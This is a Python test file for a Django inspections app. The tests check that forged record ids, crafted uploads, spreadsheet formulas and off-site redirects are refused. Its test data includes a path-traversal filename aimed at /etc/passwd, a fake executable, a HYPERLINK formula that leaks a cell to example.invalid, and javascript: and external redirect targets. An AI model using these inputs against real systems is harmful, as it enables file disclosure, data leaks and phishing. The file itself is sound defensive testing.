"""Tampering: ids of other records put into URLs and forms, crafted uploads, text that a
spreadsheet would run. Each is refused with a status or a message, and nothing changes.

Already covered elsewhere (not repeated here): a finding form posted for a visit of another
round or a criterion of another plan (tests/records/test_records_findings.py), evidence of
another finding deleted through a row (tests/records/test_records_evidence.py), an import
saved with another session's token (tests/imports/test_imports_views.py), forged evidence
types and traversing evidence names (tests/records/test_records_evidence.py).
"""

from datetime import date
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from test_permission_matrix import notice_edit_data

from inspections.models import (
    AuditEvent,
    Criterion,
    Evidence,
    Finding,
    FollowUp,
    FollowUpReport,
    Inspection,
    InspectionPlan,
    NoticeItem,
)

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4 report of the remedy"


# --- ids of other records in URLs -----------------------------------------------------


@pytest.fixture
def elsewhere(world):
    """A round the visit is not part of, and a criterion of another plan."""
    other_plan = InspectionPlan.objects.create(
        organization=world.organization, year=2024, title="Kế hoạch 2024"
    )
    return {
        "round": Inspection.objects.create(
            plan=world.plan, title="Đợt khác", starts_on=date(2023, 6, 8), ends_on=date(2023, 6, 8)
        ),
        "criterion": Criterion.objects.create(plan=other_plan, name="Nội dung của kế hoạch khác"),
    }


@pytest.mark.parametrize("forged", ["round", "criterion"])
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("inspections:finding-row", None),
        ("inspections:finding-delete", {}),
        ("inspections:evidence-add", {"file": PDF}),
        ("inspections:evidence-delete", {}),
    ],
)
def test_a_finding_route_with_a_foreign_round_or_criterion_is_404(
    client, world, elsewhere, forged, name, data
):
    finding = world.finding
    args = [world.inspection.pk, finding.unit_check_id, finding.criterion_id]
    args[0 if forged == "round" else 2] = elsewhere[forged].pk
    if name == "inspections:evidence-delete":
        args.append(world.evidence.pk)
    client.force_login(world.users["inspector"])
    if data is None:
        response = client.get(reverse(name, args=args))
    else:
        if "file" in data:
            data = {"file": SimpleUploadedFile("a.pdf", data["file"], "application/pdf")}
        response = client.post(reverse(name, args=args), data)
    assert response.status_code == 404
    assert Finding.objects.filter(pk=finding.pk).exists()
    assert list(Evidence.objects.values_list("pk", flat=True)) == [world.evidence.pk]


def test_follow_up_actions_on_a_finding_that_is_not_a_shortcoming_are_404(client, world):
    compliant = world.finding
    assert compliant.result == Finding.Result.COMPLIANT
    client.force_login(world.users["inspector"])
    for name, data in [
        ("inspections:followup-detail", None),
        ("inspections:followup-report", {"text": "Đã khắc phục."}),
        ("inspections:followup-close", {"comment": ""}),
        ("inspections:followup-reopen", {"comment": "Chưa xong."}),
        ("inspections:followup-withdraw", {"result": "noted", "reason": "Ghi nhầm."}),
    ]:
        url = reverse(name, args=[compliant.pk])
        response = client.get(url) if data is None else client.post(url, data)
        assert response.status_code == 404, name
    assert not FollowUp.objects.filter(finding=compliant).exists()
    compliant.refresh_from_db()
    assert not compliant.closed


def test_a_unit_member_cannot_download_another_units_evidence_by_its_id(client, world, make_user):
    shortcoming_unit = world.shortcoming.unit_check.unit
    assert world.evidence.finding.unit_check.unit != shortcoming_unit
    member = make_user("can_bo_phong", unit=shortcoming_unit)
    client.force_login(member)
    assert client.get(reverse("inspections:followup-detail", args=[world.shortcoming.pk])).status_code == 200
    assert client.get(reverse("inspections:evidence-download", args=[world.evidence.pk])).status_code == 403
    client.force_login(world.users["leader"])
    assert (
        client.get(reverse("inspections:evidence-download", args=[world.evidence.pk + 999])).status_code
        == 404
    )


def test_the_merged_print_ignores_ids_of_notices_that_are_not_issued(client, world):
    client.force_login(world.users["clerk"])
    drafts = [world.notices[status].pk for status in ("draft", "in_review", "approved")]
    response = client.post(reverse("inspections:print-merged"), {"notices": drafts, "next": "/notices/"})
    assert response.status_code == 302 and response["Location"] == "/notices/"
    page = client.get("/notices/").content.decode()
    assert "Chưa chọn văn bản đã ban hành nào để in." in page


# --- ids of other records in forms ------------------------------------------------------


def test_a_signer_without_a_title_cannot_be_chosen(client, world):
    notice = world.notice
    client.force_login(world.users["inspector"])
    data = notice_edit_data(world) | {"signer": world.users["clerk"].pk}  # the clerk has no title
    response = client.post(reverse("inspections:notice-edit", args=[notice.pk]), data)
    assert response.status_code == 400
    assert "Người ký không hợp lệ." in response.content.decode()
    notice.refresh_from_db()
    assert notice.signer == world.users["leader"]


def test_an_item_of_another_notice_cannot_be_edited_through_this_draft(client, world):
    notice, other = world.notice, world.notices["in_review"]
    foreign = NoticeItem.objects.filter(notice=other).order_by("position").first()
    client.force_login(world.users["inspector"])
    data = notice_edit_data(world) | {"items-0-id": foreign.pk, "items-0-text": "Đã bị sửa qua dự thảo khác"}
    response = client.post(reverse("inspections:notice-edit", args=[notice.pk]), data)
    # The formset only knows this draft's items: the foreign id matches none, so the save is
    # refused with a message, and neither notice changes (nor its audit trail).
    assert response.status_code == 400
    assert "Có dòng không thuộc dự thảo này" in response.content.decode()
    assert "Đã lưu dự thảo" not in response.content.decode()
    assert not AuditEvent.objects.filter(action="notice.change").exists()
    foreign.refresh_from_db()
    assert foreign.notice == other and foreign.text == "Mục 1 của Thông báo chờ duyệt"
    texts = list(NoticeItem.objects.filter(notice=notice).values_list("text", flat=True))
    assert texts == [f"Mục {n} của Dự thảo kết quả kiểm tra" for n in (1, 2, 3)]


@pytest.mark.parametrize("status", ["draft", "in_review", "issued"])
def test_the_issue_form_posted_for_a_notice_that_is_not_approved_changes_nothing(client, world, status):
    notice = world.notices[status]
    before = (notice.status, notice.number, notice.issued_on, notice.pdf_sha256)
    client.force_login(world.users["clerk"])
    response = client.post(
        reverse("inspections:notice-issue", args=[notice.pk]), {"number": 3001, "issued_on": "2023-06-20"}
    )
    assert response.status_code == 302 and response["Location"] == notice.get_absolute_url()
    assert "Chỉ ban hành được thông báo đã duyệt" in client.get(response["Location"]).content.decode()
    notice.refresh_from_db()
    assert (notice.status, notice.number, notice.issued_on, notice.pdf_sha256) == before


def test_a_visit_for_a_unit_outside_the_rounds_scope_is_refused(client, world):
    outside = world.demo.service_units_round.units.first()
    client.force_login(world.users["inspector"])
    response = client.post(
        reverse("inspections:unitcheck-create", args=[world.next_round.pk]),
        {"unit": outside.pk, "checked_on": "2024-06-04", "status": "done"},
    )
    assert response.status_code == 200
    assert "Đơn vị này không thuộc phạm vi của đợt kiểm tra." in response.content.decode()
    assert not world.next_round.unit_checks.exists()


# --- uploads ------------------------------------------------------------------------------


def report(client, world, **data):
    return client.post(reverse("inspections:followup-report", args=[world.shortcoming.pk]), data)


def test_a_follow_up_report_file_with_a_traversing_name_is_stored_under_a_random_name(client, world):
    client.force_login(world.users["inspector"])
    upload = SimpleUploadedFile("../../../etc/passwd\x00.pdf", PDF, "application/pdf")
    response = report(client, world, text="Đã niêm yết.", file=upload)
    assert response.status_code == 302
    saved = FollowUpReport.objects.get()
    assert saved.original_name == "passwd.pdf"
    assert saved.file.name.startswith(f"followups/{saved.followup_id}/") and ".." not in saved.file.name
    assert saved.file.name.endswith(f"{saved.token}.pdf")
    assert saved.file.read() == PDF


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("bao-cao.pdf", b"MZ\x90\x00 an executable", "không phải PDF, JPEG, PNG, DOCX hoặc XLSX"),
        ("bao-cao.docx", PDF, "có đuôi không khớp với nội dung"),
        ("bao-cao.pdf", b"%PDF-1.4" + b"0" * 2048, "vượt quá mức cho phép"),
    ],
    ids=["forged-type", "wrong-extension", "too-big"],
)
def test_a_refused_follow_up_file_is_explained_next_to_the_field(
    client, world, settings, name, content, message
):
    settings.EVIDENCE_MAX_BYTES = 1024
    client.force_login(world.users["inspector"])
    response = report(client, world, text="Đã niêm yết.", file=SimpleUploadedFile(name, content))
    assert response.status_code == 400
    errors = response.context["report_form"].errors
    assert message in " ".join(errors.get("file", [])), errors
    assert "Đã niêm yết." in response.content.decode()  # what was typed is kept
    assert not FollowUpReport.objects.exists()
    assert FollowUp.objects.get(finding=world.shortcoming).status == FollowUp.Status.REPORTED


def test_a_leader_posting_an_empty_report_is_refused_not_told_to_fill_it_in(client, world):
    client.force_login(world.users["leader"])
    assert report(client, world, text="").status_code == 403


def verify(client, world, upload=None):
    notice = world.notices["issued"]
    data = {"file": upload} if upload is not None else {}
    return client.post(reverse("inspections:verify", args=[notice.verification_code]), data)


def test_the_verify_page_explains_a_file_that_is_too_big(client, world, monkeypatch):
    monkeypatch.setattr("inspections.views.documents.VERIFY_MAX_BYTES", 1024)
    response = verify(client, world, SimpleUploadedFile("to.pdf", b"%PDF" + b"0" * 2048))
    assert response.status_code == 200
    assert "Tệp quá lớn (tối đa 1 KB)." in response.content.decode()
    assert "trùng khớp" not in response.content.decode()


@pytest.mark.parametrize(
    "upload",
    [
        SimpleUploadedFile("anh.png", b"\x89PNG\r\n\x1a\n not the notice"),
        SimpleUploadedFile("../../thong-bao.pdf", b"MZ executable"),
    ],
    ids=["not-a-pdf", "traversing-name"],
)
def test_the_verify_page_says_a_different_file_does_not_match(client, world, upload):
    response = verify(client, world, upload)
    assert response.status_code == 200
    assert "<strong>không</strong> trùng khớp" in response.content.decode()


def test_the_verify_page_asks_for_a_file_when_none_is_sent(client, world):
    response = verify(client, world)
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert "trùng khớp" not in response.content.decode()


# --- text that a spreadsheet would run ---------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


def cells(response) -> list:
    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_exports_keep_typed_formulas_as_text(client, world):
    Finding.objects.filter(pk=world.shortcoming.pk).update(observation=FORMULA)
    notice = world.new_notice(FORMULA)
    world.issue_directly(notice, 2991, date(2023, 6, 21))
    client.force_login(world.users["leader"])
    for name, args in [
        ("inspections:inspection-findings-xlsx", [world.inspection.pk]),
        ("inspections:shortcomings-xlsx", []),
        ("inspections:notice-register-export", []),
    ]:
        found = [cell for cell in cells(client.get(reverse(name, args=args))) if FORMULA in str(cell.value)]
        assert found, name
        assert all(cell.data_type == "s" for cell in found), name


def test_the_merged_print_never_sends_people_to_another_site(client, world):
    client.force_login(world.users["clerk"])
    for target in ["https://example.invalid/", "//example.invalid/", "javascript:alert(1)"]:
        response = client.post(reverse("inspections:print-merged"), {"notices": [], "next": target})
        assert response.status_code == 302 and response["Location"] == reverse("home"), target
